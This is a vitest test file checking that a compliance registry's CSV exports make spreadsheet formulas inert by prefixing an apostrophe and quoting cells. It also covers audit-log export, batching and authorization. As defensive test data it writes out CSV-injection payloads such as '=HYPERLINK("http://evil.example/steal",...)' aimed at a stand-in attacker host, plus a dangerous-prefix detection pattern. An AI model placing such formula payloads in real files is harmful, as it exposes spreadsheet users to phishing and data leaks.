// CSV exports never hand a spreadsheet a formula: every text cell of every export, lists included, is written
// inert (a leading apostrophe before = + - @, tab or carriage return) and quoted, whatever the registry holds.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { csvBatch, csvField } from '../src/http/csv.js';
import { issueToken, ok, registerContractor } from './fixtures.js';
import { startHarness, type Harness } from './harness.js';
import { PAST, csv, parseCsv, rawSql, recordOk, smallRegistry } from './transfer-fixtures.js';

let h: Harness;
let compliance: string;
let auditor: string;
let reg: Awaited<ReturnType<typeof smallRegistry>>;

const EXPORTS = {
  transfers: '/export/transfers.csv',
  transparencyReport: `/export/transparency-report.csv?${new URLSearchParams({ from: PAST, to: '2100-01-01T00:00:00Z' })}`,
  recordsOfProcessing: '/export/records-of-processing.csv',
};
/** Every column of every export that holds text the registry stores (the others are numbers, booleans, times, enums, IDs). */
const TEXT_COLUMNS: Record<keyof typeof EXPORTS, string[]> = {
  transfers: [
    'exporterOffice',
    'exporterCountry',
    'importer',
    'importerCountry',
    'categories',
    'derogationJustification',
    'policyExplanation',
  ],
  transparencyReport: ['country'],
  recordsOfProcessing: [
    'purposeName',
    'description',
    'recipient',
    'recipientCountry',
    'exporterCountry',
    'categories',
    'tiaReference',
    'securityMeasures',
  ],
};
const PREFIXES = ['=', '+', '-', '@', '\t', '\r'];
const DANGEROUS = /^[=+\-@\t\r]/;

const sqlText = (s: string) => `'${s.replace(/'/g, "''")}'`;

beforeAll(async () => {
  h = await startHarness();
  compliance = await h.staffToken('COMPLIANCE');
  auditor = await h.staffToken('AUDITOR');
  reg = await smallRegistry(h, compliance);
  await recordOk(h, compliance, { officeId: reg.office.id, contractorId: reg.india.id });
  await ok(
    h,
    compliance,
    'receiveDisclosureRequest',
    'ReceiveDisclosureRequestInput',
    {
      officeId: reg.office.id,
      authorityName: 'Landeskriminalamt Berlin',
      authorityType: 'LAW_ENFORCEMENT',
      authorityCountry: 'DE',
      instrument: 'COURT_ORDER',
      reference: 'LKA-1',
      dueAt: new Date(Date.now() + 86_400_000).toISOString(),
      requestedCategories: ['contact.email'],
      subjectsRequested: 1,
    },
    'disclosureRequest',
  );
});
afterAll(async () => {
  await h?.stop();
});

async function exportOf(name: keyof typeof EXPORTS) {
  const res = await csv(h, auditor, EXPORTS[name]);
  expect(res.status, res.text).toBe(200);
  const [header, ...rows] = parseCsv(res.text);
  for (const row of rows) expect(row.length, JSON.stringify(row)).toBe(header!.length);
  return { header: header!, rows, column: (c: string) => rows.map((r) => r[header!.indexOf(c)]!) };
}

test('an obligation text that is a formula reaches the records of processing inert (as reported)', async () => {
  const formula = '=HYPERLINK("http://evil.example/steal","Click")';
  await ok(
    h,
    compliance,
    'addObligation',
    'AddObligationInput',
    {
      contractorId: reg.india.id,
      kind: 'SECURITY_MEASURES',
      text: formula,
      sourceDocument: 'DPA 2026',
      effectiveFrom: '2026-01-01',
    },
    'obligation',
  );
  const rop = await exportOf('recordsOfProcessing');
  expect(rop.column('securityMeasures')).toContain(`'${formula}`);
  expect((await csv(h, auditor, EXPORTS.recordsOfProcessing)).text).toContain(
    `"'=HYPERLINK(""http://evil.example/steal"",""Click"")"`,
  );
});

describe.each(PREFIXES)('every text column of every export, values starting %j', (prefix) => {
  const value = (column: string) => `${prefix}HYPERLINK("http://evil.example/${column}")`;
  // Two-character country columns (char(2)) hold the prefix and one letter.
  const code = `${prefix}X`;

  beforeAll(async () => {
    // Stored values the API would trim or refuse (a leading tab, a country that is no code): written as they might
    // arrive from an older import or a hand edit. The transfer history is append-only, so a new event is inserted.
    const v = (c: string) => sqlText(value(c));
    await rawSql(h, `update offices set name = ${v('exporterOffice')}, country = ${sqlText(code)}`);
    await rawSql(h, `update contractors set legal_name = ${v('recipient')}, country = ${sqlText(code)}`);
    await rawSql(h, `update grants set tia_reference = ${v('tiaReference')}`);
    await rawSql(h, `update obligations set text = ${v('securityMeasures')} where kind = 'SECURITY_MEASURES'`);
    await rawSql(h, `update purposes set name = ${v('purposeName')}, description = ${v('description')}`);
    await rawSql(h, `update disclosure_requests set authority_country = ${sqlText(code)}`);
    await rawSql(
      h,
      `insert into data_categories (key, name, description, sensitivity) values (${v('categories')}, 'x', 'x', 'PERSONAL')`,
    );
    await rawSql(h, `insert into grant_categories (grant_id, category_key) select id, ${v('categories')} from grants`);
    await rawSql(
      h,
      `insert into transfers (occurred_at, kind, exporter_office_id, exporter_country, importer_kind, importer_authority, importer_country,
        categories, purpose, mechanism, derogation_justification, policy_explanation, record_count, cross_border, third_country, recorded_by)
      select now(), 'LEGAL_DISCLOSURE', id, ${sqlText(code)}, 'AUTHORITY', ${v('importer')}, ${sqlText(code)}, array[${v('categories')}],
        'LEGAL_OBLIGATION', 'LEGAL_CLAIMS', ${v('derogationJustification')}, ${v('policyExplanation')}, 1, true, true, 'test'
      from offices limit 1`,
    );
  });

  for (const name of Object.keys(EXPORTS) as (keyof typeof EXPORTS)[]) {
    test(name, async () => {
      const file = await exportOf(name);
      for (const column of TEXT_COLUMNS[name]) {
        const stored = column.endsWith('Country') || column === 'country' ? code : value(column);
        // The hostile value is there, as text behind an apostrophe (in a list: each element).
        expect(
          file.column(column).some((cell) => cell.split(';').some((e) => e.startsWith(`'${stored}`))),
          `${name}.${column}: ${JSON.stringify(file.column(column))}`,
        ).toBe(true);
      }
      for (const row of file.rows) {
        for (const [i, cell] of row.entries()) expect(cell, `${name}.${file.header[i]}`).not.toMatch(DANGEROUS);
      }
    });
  }
});

describe('the cell encoder', () => {
  test('text: formula starts made inert, quoted; lists element by element', () => {
    for (const p of PREFIXES) {
      expect(csvField(`${p}1+1`)).toBe(`"'${p}1+1"`);
      expect(csvField(['contact.email', `${p}cmd`])).toBe(`"contact.email;'${p}cmd"`);
    }
    expect(csvField('  =1+1')).toBe(`"'  =1+1"`);
    expect(csvField('＝1+1')).toBe(`"'＝1+1"`);
    expect(csvField('a "quoted", text\r\nline')).toBe('"a ""quoted"", text\r\nline"');
    expect(csvField('plain')).toBe('"plain"');
  });
  test('numbers, booleans, instants and empty values are written as they are', () => {
    expect(csvField(-3)).toBe('-3');
    expect(csvField(false)).toBe('false');
    expect(csvField(new Date('2026-01-31T12:00:00Z'))).toBe('2026-01-31T12:00:00.000Z');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
  });
});

test("a bad date in an export's query names its parameter, as the GraphQL argument would", async () => {
  const res = await csv(h, auditor, '/export/transfers.csv?from=2026-02-30T00:00:00Z');
  expect(res.status).toBe(400);
  expect(JSON.parse(res.text).errors[0]).toEqual({
    message:
      'Invalid input: from: "2026-02-30T00:00:00Z" is no valid instant (an ISO 8601 date-time such as 2026-01-31T12:00:00Z)',
    extensions: { code: 'VALIDATION_FAILED' },
  });
});

describe('the audit log export', () => {
  const ACTOR = '=HYPERLINK("http://evil.example/actor")';
  test('the events the auditLog filters select, oldest first, with their place in the log; text inert', async () => {
    const hostile = await h.staffToken('COMPLIANCE', ACTOR);
    const from = new Date(Date.now() - 60_000).toISOString();
    await registerContractor(h, hostile, { legalName: '+Formula Ltd', country: 'DE' });
    const to = new Date(Date.now() + 60_000).toISOString();
    const path = `/export/audit-log.csv?${new URLSearchParams({ from, to, actor: ACTOR })}`;
    const res = await csv(h, auditor, path);
    expect(res.status, res.text).toBe(200);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="audit-log.csv"');
    const [header, ...rows] = parseCsv(res.text);
    expect(res.text.split('\r\n')[0]).toBe(
      '"seq","position","occurredAt","actor","actorRole","action","entityType","entityId","before","after","leafHash"',
    );
    const col = (c: string) => rows.map((r) => r[header!.indexOf(c)]);
    // Exactly what the list shows for the same filters.
    const list = await h.gql(
      auditor,
      `query($from: DateTime, $to: DateTime, $actor: String) {
        auditLog(first: 100, from: $from, to: $to, actor: $actor) { nodes { seq action } } }`,
      { from, to, actor: ACTOR },
    );
    const events = list.body.data.auditLog.nodes as { seq: number; action: string }[];
    expect(events.length).toBeGreaterThan(0);
    expect(col('seq')).toEqual(events.map((e) => String(e.seq)).reverse());
    expect(col('action')).toContain('registerContractor');
    expect(new Set(col('actor'))).toEqual(new Set([`'${ACTOR}`]));
    expect(col('after').some((a) => a!.includes('+Formula Ltd'))).toBe(true);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(DANGEROUS);
  });

  test('crosses keyset batches without losing or repeating an event', async () => {
    const all = parseCsv((await csv(h, auditor, '/export/audit-log.csv')).text).slice(1);
    const before = csvBatch.size;
    csvBatch.size = 3;
    try {
      const batched = parseCsv((await csv(h, auditor, '/export/audit-log.csv')).text).slice(1);
      expect(all.length).toBeGreaterThan(7);
      expect(batched).toEqual(all);
    } finally {
      csvBatch.size = before;
    }
  });

  test('an unknown filter or a bad date is refused naming it; a contractor token gets none', async () => {
    const unknown = await csv(h, auditor, '/export/audit-log.csv?kind=x');
    expect(unknown.status).toBe(400);
    expect(JSON.parse(unknown.text).errors[0].message).toMatch(/kind: unknown filter; known: actor, entityType/);
    const bad = await csv(h, auditor, '/export/audit-log.csv?to=yesterday');
    expect(bad.status).toBe(400);
    expect(JSON.parse(bad.text).errors[0].message).toMatch(/^Invalid input: to: must be/);
    const contractor = await issueToken(h, compliance, {
      contractorId: reg.india.id,
      categories: ['contact.email'],
      purposes: ['TECHNICAL_SUPPORT'],
    });
    expect((await csv(h, contractor.token, '/export/audit-log.csv')).status).toBe(403);
    expect((await csv(h, undefined, '/export/audit-log.csv')).status).toBe(401);
  });
});
